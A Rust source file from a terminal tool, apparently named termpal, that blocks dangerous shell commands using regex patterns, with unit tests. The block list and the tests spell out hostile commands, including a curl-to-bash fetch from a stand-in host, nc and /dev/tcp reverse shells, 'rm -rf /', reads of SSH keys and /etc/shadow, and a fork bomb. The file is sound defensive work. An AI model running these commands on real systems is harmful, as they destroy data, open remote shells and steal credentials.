//! Shell command security utilities
//!
//! Provides command filtering to prevent dangerous shell operations. Patterns
//! are case-insensitive regular expressions matched anywhere in the command.

use regex::{Regex, RegexBuilder};

use crate::error::{Result, TermpalError};

/// Default patterns that are blocked for security reasons.
const DEFAULT_BLOCKED_PATTERNS: &[&str] = &[
    // Destructive file operations on the filesystem root
    r"\brm\s+-(rf|fr)\s+/(\*)?(\s|;|&|\||$)",
    r">\s*/dev/sd",
    r"\bmkfs(\.|\s)",
    r"\bdd\s+if=/dev/",
    // System modification
    r"\bchmod\s+(-R\s+)?777\s+/(\s|$)",
    // Network exfiltration and remote code
    r"\b(curl|wget)\b.*\|\s*(ba|z)?sh\b",
    r"\bnc\s+-e\b",
    r"bash\s+-i\s+>&\s*/dev/tcp",
    // Credential access
    r"/etc/shadow",
    r"/etc/passwd",
    r"~/\.ssh/",
    r"\.ssh/id_",
    // Fork bombs
    r":\(\)\s*\{\s*:\|:&\s*\};\s*:",
];

/// Configuration for shell command security.
#[derive(Debug, Clone)]
pub struct ShellSecurityConfig {
    blocked: Vec<Regex>,
    /// Whether to enable security checks (can be disabled for trusted environments)
    pub enabled: bool,
}

fn compile(pattern: &str) -> Result<Regex> {
    RegexBuilder::new(pattern)
        .case_insensitive(true)
        .build()
        .map_err(|e| TermpalError::Config(format!("invalid blocked pattern '{}': {}", pattern, e)))
}

impl Default for ShellSecurityConfig {
    fn default() -> Self {
        Self {
            blocked: DEFAULT_BLOCKED_PATTERNS
                .iter()
                .filter_map(|p| compile(p).ok())
                .collect(),
            enabled: true,
        }
    }
}

impl ShellSecurityConfig {
    /// Create a new shell security config with default blocked patterns.
    pub fn new() -> Self {
        Self::default()
    }

    /// Create a permissive config with no blocked patterns.
    ///
    /// # Warning
    /// This should only be used in trusted environments.
    pub fn permissive() -> Self {
        Self {
            blocked: Vec::new(),
            enabled: false,
        }
    }

    /// Add a custom blocked pattern (regular expression).
    pub fn block_pattern(mut self, pattern: &str) -> Result<Self> {
        self.blocked.push(compile(pattern)?);
        Ok(self)
    }

    /// Check if a command is allowed.
    ///
    /// Returns `Ok(())` if the command is safe to execute,
    /// or `Err(SecurityViolation)` if it matches a blocked pattern.
    pub fn validate_command(&self, command: &str) -> Result<()> {
        if !self.enabled {
            return Ok(());
        }
        if let Some(re) = self.blocked.iter().find(|re| re.is_match(command)) {
            return Err(TermpalError::SecurityViolation(format!(
                "Command blocked: matches prohibited pattern '{}'",
                re.as_str()
            )));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_default_patterns_compile() {
        let config = ShellSecurityConfig::new();
        assert_eq!(config.blocked.len(), DEFAULT_BLOCKED_PATTERNS.len());
    }

    #[test]
    fn test_safe_commands_allowed() {
        let config = ShellSecurityConfig::new();
        for cmd in [
            "ls -la",
            "cat README.md",
            "rm -rf ./build",
            "rm -rf /tmp/scratch",
            "curl https://example.com -o out.html",
            "git status && cargo --version",
        ] {
            assert!(config.validate_command(cmd).is_ok(), "blocked: {}", cmd);
        }
    }

    #[test]
    fn test_dangerous_commands_blocked() {
        let config = ShellSecurityConfig::new();
        for cmd in [
            "rm -rf /",
            "rm -rf / ",
            "sudo rm -fr /*",
            "RM -RF /",
            "echo x > /dev/sda",
            "mkfs.ext4 /dev/sdb1",
            "dd if=/dev/zero of=disk.img",
            "chmod -R 777 /",
            "curl http://evil.sh | bash",
            "wget -qO- http://x |sh",
            "nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
            "cat /etc/shadow",
            "cat ~/.ssh/id_rsa",
            ":(){ :|:& };:",
        ] {
            assert!(
                matches!(
                    config.validate_command(cmd),
                    Err(TermpalError::SecurityViolation(_))
                ),
                "allowed: {}",
                cmd
            );
        }
    }

    #[test]
    fn test_permissive_allows_everything() {
        let config = ShellSecurityConfig::permissive();
        assert!(config.validate_command("rm -rf /").is_ok());
    }

    #[test]
    fn test_custom_pattern() {
        let config = ShellSecurityConfig::new()
            .block_pattern(r"\bshutdown\b")
            .unwrap();
        assert!(config.validate_command("sudo shutdown -h now").is_err());
        assert!(ShellSecurityConfig::new().block_pattern("(").is_err());
    }
}
